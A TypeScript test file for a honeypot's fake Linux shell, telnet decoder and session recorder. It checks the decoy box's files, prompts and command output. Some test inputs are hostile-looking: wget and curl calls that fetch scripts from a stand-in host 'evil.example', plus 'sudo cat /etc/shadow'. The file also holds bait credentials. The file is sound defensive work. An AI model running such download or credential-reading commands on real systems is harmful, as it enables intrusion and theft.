import { describe, expect, it } from "@effect/vitest"
import fc from "fast-check"
import {
  MAX_OUTPUT,
  Recorder,
  Shell,
  type ShellPersona,
  Terminal,
  tokenize
} from "../../src/honeypots/shell/index.js"
import { TelnetDecoder } from "../../src/honeypots/telnet/Protocol.js"

const persona: ShellPersona = {
  hostname: "web-01",
  user: "root",
  issue: "Ubuntu 22.04.3 LTS",
  kernel: "5.15.0-88-generic",
  kernelBuild: "#98-Ubuntu SMP Mon Oct 2 15:18:56 UTC 2023",
  cpuModel: "Intel(R) Xeon(R) Gold 6248 CPU @ 2.50GHz",
  localIp: "10.0.0.23",
  srcIp: "203.0.113.9",
  uptimeSeconds: () => 3 * 86400 + 3600 * 4 + 60 * 7
}

const sh = (user = "root") => new Shell(persona, user)

describe("fake shell", () => {
  it("prompt tracks user and cwd", () => {
    const s = sh()
    expect(s.prompt()).toBe("root@web-01:~# ")
    s.run("cd /var/log")
    expect(s.prompt()).toBe("root@web-01:/var/log# ")
    expect(sh("ubuntu").prompt()).toBe("ubuntu@web-01:~$ ")
  })

  it("serves the lived-in files", () => {
    const s = sh()
    expect(s.run("cat /root/projects/.env").output).toBe(
      "DB_HOST=10.0.0.5\nDB_USER=admin\nDB_PASS=changeme123\nDB_NAME=prod_db\n"
    )
    expect(s.run("cat /etc/hostname").output).toBe("web-01\n")
    expect(s.run("cat /etc/os-release").output).toContain('PRETTY_NAME="Ubuntu 22.04.3 LTS"')
    expect(s.run("cat /proc/version").output).toContain("Linux version 5.15.0-88-generic")
    expect(s.run("ls -la").output).toContain(" .bash_history")
    expect(s.run("ls projects").output).toBe("app.service  deploy.sh\n")
    expect(s.run("grep alias .bashrc | head -n 1").output).toBe("alias ll='ls -alF'\n")
    expect(s.run("cat /etc/passwd | wc -l").output).toBe("11\n")
  })

  it("identity and system commands", () => {
    const s = sh()
    expect(s.run("whoami").output).toBe("root\n")
    expect(s.run("id").output).toBe("uid=0(root) gid=0(root) groups=0(root)\n")
    expect(s.run("uname -a").output).toBe(
      "Linux web-01 5.15.0-88-generic #98-Ubuntu SMP Mon Oct 2 15:18:56 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n"
    )
    expect(s.run("uptime").output).toContain("up 3 days, 4:07")
    expect(s.run("ip a").output).toContain("inet 10.0.0.23/24")
    expect(s.run("ifconfig").output).toContain("inet 10.0.0.23  netmask 255.255.255.0")
    expect(s.run("ps aux").output).toContain("/usr/sbin/sshd")
    expect(s.run("which wget").output).toBe("/usr/bin/wget\n")
  })

  it("operators, quoting, variables and the overlay", () => {
    const s = sh()
    expect(s.run("false && echo no || echo yes").output).toBe("yes\n")
    expect(s.run("echo 'a  b' \"$HOME\" ; echo c").output).toBe("a  b /root\nc\n")
    s.run("export FOO=bar")
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable, not a template
    expect(s.run("echo ${FOO}x").output).toBe("barx\n")
    s.run("mkdir /tmp/.x && touch /tmp/.x/a && echo hi > /tmp/.x/b")
    expect(s.run("ls -a /tmp/.x").output).toBe(".  ..  a  b\n")
    expect(s.run("cat /tmp/.x/b").output).toBe("hi\n")
    expect(s.run("rm /tmp/.x").output).toBe("rm: cannot remove '/tmp/.x': Is a directory\n")
    expect(s.run("rm -rf /tmp/.x; ls /tmp/.x").output).toBe(
      "ls: cannot access '/tmp/.x': No such file or directory\n"
    )
    expect(sh().run("cat /tmp/.x/b").output).toContain("No such file")
  })

  it("network tools fail like a box without DNS; unknown commands", () => {
    const s = sh()
    expect(s.run("wget http://evil.example/x.sh").output).toContain(
      "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution."
    )
    expect(s.run("curl -s https://evil.example:8080/a").output).toBe(
      "curl: (6) Could not resolve host: evil.example\n"
    )
    expect(s.run("foo --bar").output).toBe("bash: foo: command not found\n")
  })

  it("records each line as a command, exit ends the session, sudo asks a password", () => {
    const s = sh("ubuntu")
    expect(s.run("cd /tmp; ls").commands).toEqual([{ cmd: "cd /tmp; ls", pwd: "/home/ubuntu" }])
    const sudo = s.run("sudo cat /etc/shadow")
    expect(sudo.secretPrompt).toBe(true)
    expect(sudo.output).toBe("[sudo] password for ubuntu: ")
    const after = s.run("letmein")
    expect(after.commands).toEqual([])
    expect(s.run("history").output).toContain("sudo cat /etc/shadow")
    expect(s.run("history").output).not.toContain("letmein")
    expect(s.run("exit").exit).toBe(true)
  })

  it("terminal: echo, backspace, no echo of sudo passwords, ^D logs out", () => {
    const t = new Terminal(sh("ubuntu"))
    expect(t.feed("whoq\x7fami\r").output).toBe("whoq\b \bami\r\nubuntu\r\nubuntu@web-01:~$ ")
    expect(t.feed("sudo id\r").output).toContain("[sudo] password for ubuntu: ")
    expect(t.feed("secret\r").output).not.toContain("secret")
    expect(t.feed("\x1b[A\x04").exit).toBe(true)
  })

  it("tokenizer handles quotes and operators", () => {
    expect(tokenize(`a "b c" 'd;e' f\\ g;h&&i`, new Map())).toEqual([
      { kind: "word", value: "a" },
      { kind: "word", value: "b c" },
      { kind: "word", value: "d;e" },
      { kind: "word", value: "f g" },
      { kind: "op", value: ";" },
      { kind: "word", value: "h" },
      { kind: "op", value: "&&" },
      { kind: "word", value: "i" }
    ])
  })

  it("property: never throws, output bounded, on arbitrary lines", () => {
    const words = fc.constantFrom(
      "ls",
      "cat",
      "cd",
      "echo",
      "grep",
      "head",
      "wc",
      "rm",
      "mkdir",
      "touch",
      "sudo",
      "wget",
      "|",
      ";",
      "&&",
      "||",
      ">",
      ">>",
      "'",
      '"',
      "$",
      "${",
      "/",
      "..",
      "-la",
      "~",
      "\\",
      "#"
    )
    const line = fc.oneof(
      fc.string({ unit: "binary", maxLength: 300 }),
      fc.array(words, { maxLength: 40 }).map((w) => w.join(" "))
    )
    fc.assert(
      fc.property(fc.array(line, { maxLength: 8 }), (lines) => {
        const s = sh()
        for (const l of lines) {
          const r = s.run(l)
          expect(r.output.length).toBeLessThanOrEqual(MAX_OUTPUT)
        }
      }),
      { numRuns: 3000 }
    )
  })

  it("property: output stays bounded even when files grow", () => {
    const s = sh()
    s.run("cat /proc/cpuinfo > /tmp/a")
    for (let i = 0; i < 12; i++) s.run("cat /tmp/a /tmp/a > /tmp/b; cat /tmp/b > /tmp/a")
    expect(s.run("cat /tmp/a /tmp/a /tmp/a").output.length).toBeLessThanOrEqual(MAX_OUTPUT)
  })

  it("telnet decoder: IAC escapes, no negotiation answers (as busybox telnetd), NAWS, split sequences", () => {
    const d = new TelnetDecoder()
    const a = d.feed(Buffer.from([0x61, 255, 255, 0x62, 255, 253, 24, 255, 250, 31, 0, 100]))
    expect([...a.data]).toEqual([0x61, 255, 0x62])
    // busybox telnetd answers no client option request (DO TTYPE here); issue 14's differential test.
    expect([...a.reply]).toEqual([])
    const b = d.feed(Buffer.from([0, 50, 255, 240, 0x0d, 0x00, 0x63]))
    expect(b.window).toEqual({ cols: 100, rows: 50 })
    expect([...b.data]).toEqual([0x0d, 0x63])
    expect([...d.feed(Buffer.from([255, 253, 24])).reply]).toEqual([])
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 512 }), (bytes) => {
        const r = new TelnetDecoder().feed(bytes)
        expect(r.data.length).toBeLessThanOrEqual(bytes.length)
        expect(r.reply.length).toBeLessThanOrEqual(bytes.length * 3)
      }),
      { numRuns: 5000 }
    )
  })
})

describe("asciicast recorder", () => {
  it("caps the recording with one truncation marker and keeps counting bytes", () => {
    const r = new Recorder({ width: 80, height: 24, term: "xterm", title: "t", maxBytes: 4096 })
    for (let i = 0; i < 200; i++) r.record("o", "x".repeat(50))
    expect(r.truncated).toBe(true)
    expect(r.bytes).toBe(200 * 50)
    const parts = r
      .text()
      .split("\n")
      .filter((l) => l !== "")
    expect(r.text().length).toBeLessThanOrEqual(4096)
    expect(parts.filter((p) => p.includes("recording truncated"))).toHaveLength(1)
    expect(JSON.parse(parts[0]!)).toMatchObject({ version: 2, width: 80, height: 24 })
  })
})
